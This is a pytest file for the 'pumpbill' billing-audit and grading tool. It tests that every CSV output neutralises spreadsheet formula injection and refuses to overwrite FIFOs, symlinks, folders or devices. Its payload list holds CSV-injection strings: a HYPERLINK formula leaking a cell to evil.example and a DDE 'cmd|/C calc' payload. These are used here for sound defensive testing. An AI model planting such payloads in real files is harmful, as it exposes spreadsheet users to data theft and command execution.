"""Every CSV pumpbill writes is safe to open in a spreadsheet (security review A1), and no output
replaces anything but a regular file (S1).

A1: each CSV the product writes is produced end to end by the real command (``pumpbill grade``,
``pumpbill audit``, ``pumpbill synth``) or writer (``audit.files.write_csv``, ``audit.synth.write_synth``)
with hostile values in every field a user controls, read back with the ``csv`` module, and checked
cell by cell: nothing starts with ``= + - @``, tab or carriage return unless it is prefixed with
``'``, except a plain number in a column of numbers the program computed itself. Each test also
checks that the hostile values really reached the file (neutralised), so none passes vacuously.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import stat
from decimal import Decimal
from pathlib import Path

import pytest
import yaml

from pumpbill.cli import main as pumpbill_main
from pumpbill.csvsafe import DANGEROUS, NUMBER, csv_row, safe_cell, safe_number_text, safe_series

pd = pytest.importorskip("pandas")

from pumpbill.audit import files  # noqa: E402  (needs pandas)

ROOT = Path(__file__).resolve().parents[1]
#: The review's payloads (A1), plus the stripped-tab case it found: "\t=1+1" must never become "=1+1".
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&C2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def unsafe_cells(path: Path, numbers: set[str] = frozenset()) -> list[tuple[int, str, str]]:
    """(row, column, cell) of every cell a spreadsheet would run. ``numbers``: columns of numbers the
    program computed, where a plain decimal such as ``-0.25`` is a number, not a formula."""
    rows = read_rows(path)
    header = rows[0]
    bad = []
    for n, row in enumerate(rows):
        assert len(row) == len(header), f"{path.name} row {n}: {len(row)} fields, header has {len(header)}"
        for col, c in zip(header, row, strict=True):
            if c[:1] in DANGEROUS and not (n and col in numbers and NUMBER.fullmatch(c)):
                bad.append((n, col, c))
    return bad


def neutralised(path: Path, column: str | None = None) -> set[str]:
    """Cells (of one column, or any) that carry a payload behind the ``'`` prefix."""
    rows = read_rows(path)
    header = rows[0]
    cells = [c for row in rows for col, c in zip(header, row, strict=True) if column is None or col == column]
    if column is None:
        cells += header
    return {c for c in cells if c[:1] == "'" and c[1:2] in DANGEROUS}


# ---------------------------------------------------------------------------------------------- the function


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_every_payload_without_stripping_it(payload):
    assert safe_cell(payload) == "'" + payload  # "\t=1+1" -> "'\t=1+1", never "=1+1"
    assert safe_cell(safe_cell(payload)) == "'" + payload  # idempotent: a second guard adds nothing
    assert safe_number_text(payload) == "'" + payload  # not a number: text


def test_safe_cell_keeps_text_and_real_numbers():
    assert [safe_cell(v) for v in ("plain", "", None, " =1", "'=1", "SYN-P1", "1-2")] == \
        ["plain", "", "", " =1", "'=1", "SYN-P1", "1-2"]
    # real numbers we hold as numbers stay numbers; a number-looking *string* is text
    assert [safe_cell(v) for v in (-1, -0.5, Decimal("-2.50"), 3, True)] == ["-1", "-0.5", "-2.50", "3", "True"]
    assert safe_cell("-1") == "'-1"
    assert safe_cell(float("-inf")) == "'-inf" and safe_cell(float("nan")) == "nan"
    np = pytest.importorskip("numpy")
    assert safe_cell(np.float64(-0.25)) == "-0.25" and safe_cell(np.int64(-3)) == "-3"
    # a column of numbers we formatted: plain decimals stay, anything else is neutralised
    assert [safe_number_text(v) for v in ("-0.25", "-1", "10", "", "EX", "-1e-05", "-inf", "-٣", "-1 ")] == \
        ["-0.25", "-1", "10", "", "EX", "-1e-05", "'-inf", "'-٣", "'-1 "]


@pytest.mark.parametrize("dtype", [object, "str"])
def test_safe_series_is_safe_cell_per_value(dtype):
    values = [*PAYLOADS, "plain", "", "-1", "-0.5", "'=x", "SYN-1", "-2+3"] * 3
    s = pd.Series(values, dtype=dtype)
    assert safe_series(s).tolist() == [safe_cell(v) for v in values]
    assert safe_series(s, numbers=True).tolist() == [safe_number_text(v) for v in values]
    clean = pd.Series(["a", "b", ""], dtype=dtype)
    assert safe_series(clean) is clean  # nothing dangerous: no copy


def test_csv_row_quotes_a_carriage_return():
    """Python's csv module (lineterminator "\\n") leaves a bare CR unquoted; readers then start a new
    row there, and "x\\r=1+1" would put "=1+1" first in a row of its own."""
    line = csv_row([safe_cell("x\r=1+1"), safe_cell("\r=1+1"), "a,b", 'q"q', "n\nl"]) + "\n"
    assert list(csv.reader(io.StringIO(line, newline=""))) == [["x\r=1+1", "'\r=1+1", "a,b", 'q"q', "n\nl"]]


def test_the_core_module_imports_no_pandas():
    import subprocess
    import sys

    code = "import sys, pumpbill.csvsafe; print('pandas' in sys.modules, 'numpy' in sys.modules)"
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert r.stdout.split() == ["False", "False"], r.stderr


# ---------------------------------------------------------------------------------------------- audit


def hostile_frame(n_copies: int = 3) -> pd.DataFrame:
    """Findings- and malformed-row-shaped columns with a payload in every text field and the header."""
    rows = []
    for k in range(n_copies):
        for i, p in enumerate(PAYLOADS):
            rows.append({"rule": "PB101", "line": i + 2 + k * 10, "claim_id": p, "patient_id": p + "P",
                         "provider_id": p, "code": p, "modifiers": p, "message": f"{p} billed twice",
                         "reason": p, "units": "-1" if i % 2 else p, "score": -0.25 * i, "text": f"{p},{p}"})
    frame = pd.DataFrame(rows)
    frame["line"] = frame["line"].astype("Int64")
    frame.loc[0, "line"] = pd.NA
    frame.loc[1, "score"] = float("-inf")
    return frame.rename(columns={"text": PAYLOADS[0], "reason": PAYLOADS[4]})


def test_audit_write_csv_neutralises_every_text_cell(tmp_path):
    frame = hostile_frame()
    path = tmp_path / "findings.csv"
    files.atomic_write(path, lambda fh: files.write_csv(frame, fh, numbers=("units",)))
    rows = read_rows(path)
    assert unsafe_cells(path, numbers={"line", "score", "units"}) == []
    # exactly safe_cell of every value: nothing else altered, the header included, quoting round-trips
    assert rows[0] == [safe_cell(c) for c in frame.columns]
    for r, (_, rec) in zip(rows[1:], frame.iterrows(), strict=True):
        assert r[2:9] == [safe_cell(rec[c]) for c in ("claim_id", "patient_id", "provider_id", "code", "modifiers",
                                                       "message", PAYLOADS[4])]
        assert r[9] == safe_number_text(rec["units"])  # "-1" is a number we wrote; "-2+3" is not
    assert {r[9] for r in rows[1:]} >= {"-1", "'-2+3", "'=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"open\")"}
    assert rows[1][1] == "" and rows[2][10] == "'-inf" and rows[3][10] == "-0.5"  # NA, -inf as text, numbers


def test_audit_write_csv_stays_column_wise_for_a_big_frame():
    """1M-row audits: the guard works per column (vectorised), with or without the guard the same
    order of time, and a frame with a few hostile cells costs about what a clean one does (a guard
    that went back to per-cell Python work on dangerous values would fail here)."""
    import time

    n = 100_000
    ids = pd.Series([f"SYN-C{i:07d}" for i in range(n)])
    frame = pd.DataFrame({"claim_id": ids, "patient_id": ids, "code": "95990", "line": range(n)})
    hostile = frame.copy()
    hostile.loc[::1000, "claim_id"] = PAYLOADS[0]

    def timed(f: pd.DataFrame) -> tuple[float, str]:  # best of 3: the machine is shared
        best = float("inf")
        for _ in range(3):
            buf = io.StringIO()
            t = time.perf_counter()
            files.write_csv(f, buf)
            best = min(best, time.perf_counter() - t)
        return best, buf.getvalue()

    clean_t, _ = timed(frame)
    hostile_t, text = timed(hostile)
    assert text.count('\n"\'=HYPERLINK') == n // 1000
    assert hostile_t < 2 * clean_t + 0.3  # per-column work, not a Python loop per cell
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(files, "safe_series", lambda text, numbers=False: text)
        unguarded_t, unguarded = timed(hostile)
    assert unguarded.count('\n"=HYPERLINK') == n // 1000  # (what the guard prevents)
    assert hostile_t < 2 * unguarded_t + 0.3


def write_hostile_claims(path: Path, payloads: list[str]) -> None:
    """Valid lines with a payload in every ID and the payer (findings name them), and one malformed line
    per field with a payload in that field (malformed_rows.csv quotes them)."""
    header = ["claim_id", "patient_id", "provider_id", "date_of_service", "place_of_service", "code", "modifiers",
              "units", "diagnoses", "payer", "change_note"]
    rows = []
    for i, p in enumerate(payloads):
        for code in ("95990", "62369"):  # PB101/PB102 on one patient-day
            rows.append([p + "C", p, p + "D", f"2025-03-{i + 1:02d}", "11", code, "", "1", "Z45.1;G80.1", p, p])
        for j in range(len(header)):
            good = ["SYN-C9", "SYN-P9", "SYN-D9", "2025-03-20", "11", "95990", "", "1", "Z45.1", "medicare", ""]
            good[j] = p
            rows.append(good)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([header, *rows])  # CR quoted
    path.write_text(buf.getvalue(), encoding="utf-8")


def run_cli(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = pumpbill_main(argv)
    return rc, out.getvalue(), err.getvalue()


@pytest.mark.parametrize("payloads", [PAYLOADS[:5], PAYLOADS[5:]], ids=["formulas-and-tab", "carriage-return"])
def test_pumpbill_audit_csvs_are_safe(tmp_path, payloads):
    """Through the real ``pumpbill audit`` (hostile input file name too)."""
    claims = tmp_path / "=HYPERLINK(1)+claims.csv"
    write_hostile_claims(claims, payloads)
    out = tmp_path / "out"
    rc, stdout, stderr = run_cli(["audit", str(claims), "--out", str(out), "--no-progress"])
    assert rc in (0, 1), stderr
    for name in ("findings.csv", "malformed_rows.csv"):
        assert unsafe_cells(out / name, numbers={"line"}) == [], name
    assert neutralised(out / "malformed_rows.csv"), "the hostile fields reached malformed_rows.csv"
    if payloads == PAYLOADS[:5]:
        found = neutralised(out / "findings.csv")
        for column in ("claim_id", "patient_id", "provider_id"):
            assert neutralised(out / "findings.csv", column), column
        assert {c[:2] for c in found} >= {"'=", "'+", "'-", "'@", "'\t"}  # the tab is kept, not stripped away


def test_synthetic_claims_csv_is_safe_and_still_audits(tmp_path):
    """``pumpbill synth`` writes our own synthetic values, but its seeded malformed rows carry units
    of -1: a number we wrote (allowed unprefixed in a numbers column), never a formula."""
    path = tmp_path / "claims.csv"
    rc, _, stderr = run_cli(["synth", "--out", str(path), "--patients", "40", "--seed", "3", "--malformed-rate",
                             "0.05"])
    assert rc == 0, stderr
    numbers = {"units", "reservoir_ml", "volume_added_ml", "volume_after_ml", "concentration_mcg_per_ml",
               "daily_dose_mcg", "alarm_ml", "drug_diluted"}
    assert unsafe_cells(path, numbers=numbers) == []
    truth = json.loads(path.with_name("claims.truth.json").read_text())
    rows = read_rows(path)
    assert len(rows) - 1 == truth["lines"]
    assert sum(r[rows[0].index("units")] in ("-1", "'-1") for r in rows) > 0  # the seeded bad units are there


# ---------------------------------------------------------------------------------------------- grade

F01, D01 = "f01-refill-no-reprogramming", "d01-record-device-and-plan"
#: Columns of numbers the grader computes (a plain decimal there is a number, not a formula).
GRADE_NUMBERS = {
    "results.csv": {"points", "max_points", "late_days", "penalty"},
    "grades.csv": {"points", "raw_points", "penalty", "max_points", "late_days"},
    "gradebook.csv": {F01, D01, "total", "max", "percent", "graded", "missing", "not_gradable", "late", "penalty"},
    "lms_canvas.csv": set(),  # the assignment column is checked by name below
    "item_analysis.csv": {"max_points", "trainees", "n", "missing", "not_gradable", "mean_points", "difficulty",
                          "discrimination"},
    "not_gradable.csv": set(),
    "review.csv": set(),
    "changes.csv": {"old_points", "new_points", "old_max", "new_max"},
}
#: Where each file must show a neutralised payload (so the test is driven by hostile input).
GRADE_EXPECT = {
    "results.csv": ["source", "submitted_at", "trainee"],
    "grades.csv": ["source", "submitted_at", "trainee"],
    "gradebook.csv": ["trainee"],
    "lms_canvas.csv": ["Student", "SIS User ID", "SIS Login ID", "Section"],
    "item_analysis.csv": ["title"],
    "not_gradable.csv": ["source"],  # an invalid trainee or exercise id is left out, the reason names no value
    "review.csv": ["trainee"],
    "changes.csv": ["trainee", "old_status", "old_points", "old_max"],
}
CANVAS_HEADER = PAYLOADS[0] + " (48213)"


def _dump(path: Path, data) -> None:
    path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")


def _csv_file(path: Path, rows: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One real ``pumpbill grade`` run: payloads in exercise titles, submission file names, trainee and
    exercise ids, answers, timestamps, modes, the roster (names, SIS ids, logins, sections), the
    extensions file, the Canvas column title and the previous grades.csv it compares with."""
    base = tmp_path_factory.mktemp("hostile-grade")
    s = base / "set"
    s.mkdir()
    _dump(s / "set.yaml", {"id": "evil", "title": PAYLOADS[3], "due": "2026-03-09T23:59:00-05:00"})
    for ex, folder, title in ((F01, "foundations", PAYLOADS[0]), (D01, "documentation", PAYLOADS[1])):
        data = yaml.safe_load((ROOT / "exercises" / folder / f"{ex}.yaml").read_text(encoding="utf-8"))
        data["title"] = title
        _dump(s / f"{ex}.yaml", data)
    subs = base / "subs"
    subs.mkdir()
    perfect = {"lines": [{"code": "95990"}, {"code": "J0475", "modifiers": ["JZ"], "units": 4}],
               "diagnoses": ["Z45.1", "G80.1"]}
    for i, p in enumerate(PAYLOADS):  # graded hand-ins whose file names and answers are payloads
        _dump(subs / (p.replace("/", "_") + ".yaml"), {
            "trainee": ("alice", "bob")[i % 2], "exercise": F01, "submitted_at": f"2026-03-0{i + 1}T10:00:00",
            "answer": {"lines": [{"code": p, "modifiers": [p], "units": 1}], "diagnoses": [p]}})
    _dump(subs / "doc.yaml", {"trainee": "carol", "exercise": D01, "answer": {"documentation": {
        "pump": {"manufacturer": PAYLOADS[3], "model": PAYLOADS[1]}, "refill": {"lot": PAYLOADS[0]},
        "next_refill_date": PAYLOADS[2]}}})
    _dump(subs / "bad-trainee.yaml", {"trainee": PAYLOADS[0], "exercise": F01, "answer": perfect})
    _dump(subs / "bad-exercise.yaml", {"trainee": "dave", "exercise": PAYLOADS[1], "answer": perfect})
    _dump(subs / "bad-time.yaml", {"trainee": "erin", "exercise": F01, "submitted_at": PAYLOADS[2],
                                   "answer": perfect})
    _dump(subs / "bad-mode.yaml", {"trainee": "erin", "exercise": D01, "mode": PAYLOADS[3], "answer": perfect})
    roster = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section"], ["    Points Possible", "", "", "", ""]]
    for i, key in enumerate(["alice", "bob", "carol", "dave", "erin"]):
        roster.append([f"{PAYLOADS[i]}, Name", str(1001 + i), key, f"{PAYLOADS[(i + 1) % 6]}@x", PAYLOADS[(i + 2) % 6]])
    for i, p in enumerate(PAYLOADS):  # students whose ids are payloads (they hand in nothing)
        roster.append([p, str(1010 + i), f"{p}{i}", f"{p}{i}@x", p])
    _csv_file(base / "roster.csv", roster)
    _csv_file(base / "extensions.csv", [["trainee", "extra_days"], *[[p, "2"] for p in PAYLOADS]])
    prev = base / "prev"
    prev.mkdir()
    cols = ["trainee", "exercise", "status", "points", "raw_points", "penalty", "max_points", "late_days", "due",
            "submitted_at", "source", "file_trainee", "why", "reason"]
    old = [[p, F01, PAYLOADS[(i + 1) % 6], PAYLOADS[(i + 2) % 6], "", "", PAYLOADS[(i + 3) % 6], "", "", "", p, "", "",
            ""] for i, p in enumerate(PAYLOADS)]
    old.append(["alice", F01, "graded", "-0.5", "", "", "10", "", "", "", "x.yaml", "", "", ""])
    _csv_file(prev / "grades.csv", [cols, *old])
    out = base / "out"
    cwd = Path.cwd()
    os.chdir(subs)  # hand-ins named relative to here: the file names are the payloads
    try:
        rc, stdout, stderr = run_cli(["grade", str(s), ".", "--out", str(out), "--no-progress", "--jobs", "1",
                                      "--roster", str(base / "roster.csv"), "--canvas-assignment", CANVAS_HEADER,
                                      "--extensions", str(base / "extensions.csv"), "--compare", str(prev)])
    finally:
        os.chdir(cwd)
    assert rc in (0, 1), stderr
    return out


@pytest.mark.parametrize("name", list(GRADE_NUMBERS))
def test_pumpbill_grade_csvs_are_safe(graded, name):
    path = graded / name
    numbers = set(GRADE_NUMBERS[name])
    if name == "lms_canvas.csv":
        header = read_rows(path)[0]
        assert header[-1] == safe_cell(CANVAS_HEADER)  # the column title the instructor gave, neutralised
        numbers.add(header[-1])
    assert unsafe_cells(path, numbers) == []
    for column in GRADE_EXPECT[name]:
        assert neutralised(path, column), f"{name}: no hostile value reached column {column}"


def test_changes_csv_writes_old_numbers_as_numbers_and_old_text_as_text(graded):
    rows = {(r["trainee"], r["exercise"]): r for r in csv.DictReader(io.StringIO((graded / "changes.csv").read_text(
        encoding="utf-8"), newline=""))}
    assert rows[("alice", F01)]["old_points"] == "-0.5"  # re-formatted by us: a number
    assert rows[(safe_cell(PAYLOADS[0]), F01)]["old_points"] == safe_cell(PAYLOADS[2])  # user text: neutralised


def test_grade_cell_guard_is_the_one_function():
    from pumpbill.grading import reports

    for p in [*PAYLOADS, "plain", "", "-1"]:
        assert reports.cell(p) == safe_cell(p)
    assert reports.cell(None) == "" and reports.cell(-1) == "'-1"  # cell() is for text: always text


# ---------------------------------------------------------------------------------------------- S1: targets


def _never(*_a, **_k):
    raise AssertionError("nothing may be written")


@pytest.fixture
def targets(tmp_path):
    (tmp_path / "real.csv").write_text("keep\n", encoding="utf-8")
    os.mkfifo(tmp_path / "fifo.csv")
    os.symlink("real.csv", tmp_path / "link.csv")
    (tmp_path / "dir.csv").mkdir()
    return tmp_path


@pytest.mark.parametrize("name, kind", [("fifo.csv", "FIFO"), ("link.csv", "symbolic link"), ("dir.csv", "folder")])
def test_atomic_write_refuses_what_is_not_a_regular_file(targets, monkeypatch, name, kind):
    before = os.lstat(targets / name)
    called = []
    monkeypatch.setattr(files.tempfile, "mkstemp", _never)  # refused before even a temporary file
    with pytest.raises(files.NotARegularFile, match=kind) as err:
        files.atomic_write(targets / name, called.append)
    assert isinstance(err.value, OSError) and err.value.filename == str(targets / name)
    after = os.lstat(targets / name)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino) and not called
    assert (targets / "real.csv").read_text(encoding="utf-8") == "keep\n"  # the link's target untouched
    assert sorted(p.name for p in targets.iterdir()) == ["dir.csv", "fifo.csv", "link.csv", "real.csv"]


def test_atomic_write_refuses_a_device_before_touching_it(monkeypatch):
    """/dev/null only for the refusal path: every write primitive is disarmed first, so even a broken
    check could not replace it (the tests may run as root)."""
    dev = Path("/dev/null")
    if not dev.exists() or not stat.S_ISCHR(os.lstat(dev).st_mode):
        pytest.skip("no /dev/null character device here")
    monkeypatch.setattr(files.tempfile, "mkstemp", _never)
    monkeypatch.setattr(files.os, "replace", _never)
    with pytest.raises(files.NotARegularFile, match="character device"):
        files.atomic_write(dev, _never)
    rc, stdout, stderr = run_cli(["synth", "--out", str(dev), "--patients", "3"])
    assert rc == 2 and stdout == ""
    assert stderr.count("\n") == 1 and "/dev/null" in stderr and "character device" in stderr
    assert "Traceback" not in stderr
    assert stat.S_ISCHR(os.lstat(dev).st_mode)


@pytest.mark.parametrize("name", ["fifo.csv", "link.csv", "dir.csv"])
def test_pumpbill_synth_out_exits_2_with_one_line_and_writes_nothing(targets, name):
    before = {p.name: os.lstat(p).st_mode for p in targets.iterdir()}
    rc, stdout, stderr = run_cli(["synth", "--out", str(targets / name), "--patients", "3"])
    assert rc == 2 and stdout == ""
    assert stderr.count("\n") == 1 and stderr.startswith("pumpbill synth: error: ") and name in stderr
    assert "refusing to replace it" in stderr and "Traceback" not in stderr
    assert {p.name: os.lstat(p).st_mode for p in targets.iterdir()} == before  # no CSV, truth or temp file


def test_pumpbill_synth_writes_nothing_when_the_truth_file_is_in_the_way(tmp_path):
    os.mkfifo(tmp_path / "c.truth.json")
    rc, _, stderr = run_cli(["synth", "--out", str(tmp_path / "c.csv"), "--patients", "3"])
    assert rc == 2 and "c.truth.json" in stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.truth.json"]


def test_a_fifo_that_appears_while_writing_is_not_replaced(tmp_path):
    """The second lstat, right before the rename: a regular file swapped for a FIFO mid-write stays."""
    target = tmp_path / "out.csv"
    target.write_text("old\n", encoding="utf-8")

    def write(fh):
        fh.write("new\n")
        target.unlink()
        os.mkfifo(target)

    with pytest.raises(files.NotARegularFile, match="FIFO"):
        files.atomic_write(target, write)
    assert stat.S_ISFIFO(os.lstat(target).st_mode)
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]  # the temporary file is gone


def test_regular_files_are_still_replaced_and_new_ones_made(tmp_path):
    old = tmp_path / "old.csv"
    old.write_text("old\n", encoding="utf-8")
    files.atomic_write(old, lambda fh: fh.write("new\n"))
    files.atomic_write(tmp_path / "sub" / "new.csv", lambda fh: fh.write("x\n"))
    assert old.read_text(encoding="utf-8") == "new\n"
    assert (tmp_path / "sub" / "new.csv").read_text(encoding="utf-8") == "x\n"
    assert stat.S_IMODE(os.stat(old).st_mode) == 0o666 & ~_umask()
    shutil.rmtree(tmp_path / "sub")


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


@pytest.mark.parametrize("reader", ["roster", "extensions"])
def test_a_carriage_return_in_a_roster_or_extensions_file_is_never_an_internal_error(tmp_path, reader):
    """A bare CR inside an unquoted field used to raise csv.Error ("internal error"): now a clear error or a row."""
    from pumpbill.errors import InputError
    from pumpbill.grading.deadlines import read_extensions
    from pumpbill.grading.identity import read_roster

    path = tmp_path / "in.csv"
    if reader == "roster":
        path.write_bytes(b"Student,ID,SIS User ID,SIS Login ID,Section\nA,1001,alice,a@x,\r=1+1\n")
        fn = read_roster
    else:
        path.write_bytes(b'trainee,due\nalice,"2026-12\r01"\n')
        fn = read_extensions
    try:
        fn(str(path))
    except InputError as exc:
        assert str(path) in str(exc) and "\n" not in str(exc)
